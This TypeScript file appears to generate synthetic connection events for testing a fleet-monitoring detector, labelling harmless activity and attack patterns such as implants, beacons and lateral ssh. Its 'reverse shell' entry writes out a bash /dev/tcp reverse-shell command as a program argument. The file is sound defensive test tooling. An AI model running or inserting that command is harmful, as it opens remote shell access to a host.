import { DAY, type EpochMs, HOUR, MINUTE } from '../../../src/domain/time.ts'
import type { Deed, Program } from '../../../src/scenario/demo-fleet/deed.ts'
import type { Host } from '../../../src/scenario/demo-fleet/hosts.ts'
import type { Rng } from '../../../src/scenario/demo-fleet/rng.ts'

/** Something out of the ordinary on some hosts, harmless or not. */
export interface News {
  readonly kind: string
  readonly attack: boolean
  readonly acts: readonly Act[]
}

/** A program that contacts a peer at some moments on a host. */
export interface Act {
  readonly host: Host
  readonly program: Program
  readonly user: string
  readonly ip: string
  readonly port: number
  readonly times: readonly EpochMs[]
}

/** Where and when news happens; names and addresses are drawn, so that none of them means anything. */
export interface Stage {
  readonly hosts: readonly Host[]
  readonly at: EpochMs
  readonly end: EpochMs
  readonly rng: Rng
}

type Kind = (stage: Stage) => readonly Act[]

const SYLLABLES = [
  'ba',
  'cor',
  'den',
  'fal',
  'gri',
  'hex',
  'jol',
  'kun',
  'lor',
  'mip',
  'nar',
  'pel',
  'qui',
  'ros',
  'tam',
  'vex',
]
const PEOPLE = ['ines', 'omar', 'root']
const SERVICES = ['www-data', 'postgres', 'orders', 'prometheus', 'ci', 'fluent']

function word(rng: Rng): string {
  return rng.pick(SYLLABLES) + rng.pick(SYLLABLES) + rng.pick(SYLLABLES)
}

function file(executable: string, ...args: string[]): Program {
  const name = executable.slice(executable.lastIndexOf('/') + 1).slice(0, 15)
  return { name, executable, args: [executable, ...args] }
}

const outside = (rng: Rng) =>
  `${rng.pick(['45', '91', '146', '185', '193'])}.${rng.whole(1, 254)}.${rng.whole(1, 254)}.${rng.whole(1, 254)}`
const inside = (rng: Rng) => `10.20.${rng.whole(0, 3)}.${rng.whole(2, 60)}`
/** A service's address that much of the fleet uses. */
const COMMON = ['198.51.100.30', '198.51.100.12', '203.0.113.5']

/** The moments of something that comes back every `period`, give or take a tenth. */
function every(period: number, { at, end, rng }: Stage, most = Number.POSITIVE_INFINITY): EpochMs[] {
  const times: EpochMs[] = []
  for (let time = at; time < end && times.length < most; time += period * (0.9 + 0.2 * rng.next()))
    times.push(Math.round(time))
  return times
}

const one = (stage: Stage, act: Omit<Act, 'host' | 'times'> & Partial<Act>): readonly Act[] => [
  { host: stage.rng.pick(stage.hosts), times: [stage.at], ...act },
]

/** Harmless: what people and packages do. */
const HARMLESS: readonly [share: number, kind: string, act: Kind][] = [
  [
    5,
    'one-off tool',
    (stage) => {
      const { rng } = stage
      const path = rng.pick(['/usr/bin', '/usr/local/bin', '/opt/tools', '/home/omar/bin'])
      return one(stage, {
        program: file(`${path}/${word(rng)}`),
        user: rng.pick(PEOPLE),
        ip: rng.pick([inside(rng), outside(rng), ...COMMON]),
        port: rng.pick([22, 443, 443, 8080]),
        times: every(4 * MINUTE, stage, rng.whole(1, 5)),
      })
    },
  ],
  [
    5,
    'own script',
    (stage) => {
      const { rng } = stage
      const script = `/home/${rng.pick(['ines', 'omar'])}/${word(rng)}.py`
      const program = { name: 'python3', executable: '/usr/bin/python3.11', args: ['python3', script] }
      return one(stage, {
        program,
        user: rng.pick(PEOPLE),
        ip: rng.pick([inside(rng), ...COMMON]),
        port: rng.pick([443, 5432]),
        times: every(10 * MINUTE, stage, rng.whole(1, 8)),
      })
    },
  ],
  [
    5,
    'known tool by a person',
    (stage) => {
      const { rng } = stage
      const tool = rng.pick(['ssh', 'curl', 'rsync', 'psql', 'dig'])
      return one(stage, {
        program: file(`/usr/bin/${tool}`),
        user: rng.pick(PEOPLE),
        ip: rng.pick([inside(rng), ...COMMON]),
        port: tool === 'ssh' || tool === 'rsync' ? 22 : 443,
      })
    },
  ],
  [
    1,
    'new peer of a daemon',
    (stage) => {
      const daemon = stage.rng.pick([
        ['/opt/fluent-bit/bin/fluent-bit', 'fluent'],
        ['/usr/sbin/nginx', 'www-data'],
        ['/usr/bin/prometheus', 'prometheus'],
      ])
      return one(stage, {
        program: file(daemon[0]!),
        user: daemon[1]!,
        ip: outside(stage.rng),
        port: 443,
        times: every(HOUR, stage),
      })
    },
  ],
  [
    1,
    'new job',
    (stage) => {
      const { rng } = stage
      const name = `/opt/jobs/${word(rng)}`
      return one(stage, {
        program: file(name),
        user: rng.pick(SERVICES),
        ip: rng.pick(COMMON),
        port: 443,
        times: every(DAY, stage),
      })
    },
  ],
  [
    1,
    'roll-out',
    (stage) => {
      const program = file(`/opt/${word(stage.rng)}/agent`)
      const ip = inside(stage.rng)
      return stage.hosts.map((host) => ({
        host,
        program,
        user: 'root',
        ip,
        port: 8443,
        times: every(20 * MINUTE, { ...stage, at: stage.at + stage.rng.whole(0, 3 * HOUR) }),
      }))
    },
  ],
]

/** What intruders do; each comes from what defenders have published of such intrusions, none from a development fleet. */
const ATTACKS: readonly [kind: string, act: Kind][] = [
  [
    'implant',
    (stage) => {
      const { rng } = stage
      return one(stage, {
        program: file(`${rng.pick(['/usr/lib', '/var/lib/misc', '/lib/firmware', '/usr/sbin'])}/${word(rng)}`),
        user: 'root',
        ip: outside(rng),
        port: rng.pick([443, 8443]),
        times: every(rng.pick([20 * MINUTE, 2 * HOUR, 12 * HOUR]), stage),
      })
    },
  ],
  [
    'reverse shell',
    (stage) => {
      const { rng } = stage
      const ip = outside(rng)
      const program = {
        name: 'bash',
        executable: '/usr/bin/bash',
        args: ['bash', '-c', `bash -i >& /dev/tcp/${ip}/${4444}`],
      }
      return one(stage, { program, user: rng.pick(SERVICES), ip, port: 4444, times: every(8 * MINUTE, stage, 5) })
    },
  ],
  [
    'script',
    (stage) => {
      const { rng } = stage
      const program = {
        name: 'python3',
        executable: '/usr/bin/python3.11',
        args: ['python3', `/var/tmp/${word(rng)}.py`],
      }
      return one(stage, {
        program,
        user: rng.pick(SERVICES),
        ip: rng.pick([outside(rng), ...COMMON]),
        port: 443,
        times: every(HOUR, stage),
      })
    },
  ],
  [
    'lateral ssh',
    (stage) => {
      const { rng } = stage
      return one(stage, {
        program: file('/usr/bin/ssh'),
        user: rng.pick(SERVICES.filter((user) => user !== 'postgres')),
        ip: inside(rng),
        port: 22,
        times: every(5 * MINUTE, stage, 3),
      })
    },
  ],
  [
    'daemon turned',
    (stage) => {
      const { rng } = stage
      const daemon = rng.pick([
        ['/usr/sbin/nginx', 'www-data'],
        ['/usr/sbin/chronyd', '_chrony'],
        ['/usr/sbin/sshd', 'root'],
      ])
      return one(stage, {
        program: file(daemon[0]!),
        user: daemon[1]!,
        ip: outside(rng),
        port: 443,
        times: every(2 * HOUR, stage),
      })
    },
  ],
  [
    'tunnel',
    (stage) => {
      const { rng } = stage
      return one(stage, {
        program: file(`/dev/shm/${word(rng)}`),
        user: rng.pick(SERVICES),
        ip: rng.pick([outside(rng), ...COMMON]),
        port: 443,
        times: every(30 * MINUTE, stage),
      })
    },
  ],
  [
    'slow beacon',
    (stage) => {
      const { rng } = stage
      return one(stage, {
        program: file(`/usr/lib/${word(rng)}/${word(rng)}`),
        user: 'root',
        ip: outside(rng),
        port: 443,
        times: every(3 * DAY, stage),
      })
    },
  ],
  [
    'administrator turned',
    (stage) => {
      const { rng } = stage
      return one(stage, {
        program: file(rng.pick(['/usr/bin/ssh', '/usr/bin/curl', '/usr/bin/rsync'])),
        user: rng.pick(PEOPLE),
        ip: rng.pick([inside(rng), ...COMMON]),
        port: rng.pick([22, 443]),
        times: every(15 * MINUTE, stage, 3),
      })
    },
  ],
]

export function harmlessNews(stage: Stage): News {
  const often = HARMLESS.flatMap(([share, kind, act]) => Array.from({ length: share }, () => ({ kind, act })))
  const { kind, act } = stage.rng.pick(often)
  return { kind, attack: false, acts: act(stage) }
}

export function attackNews(stage: Stage): News {
  const [kind, act] = stage.rng.pick(ATTACKS)
  return { kind, attack: true, acts: act(stage) }
}

export function deedsOf({ program, user, ip, port, times }: Act): Deed[] {
  return times.map((time) => ({
    time,
    kind: 'connect',
    program,
    user,
    pid: 60_001,
    ppid: 1,
    peer: { ip, port },
    done: true,
  }))
}
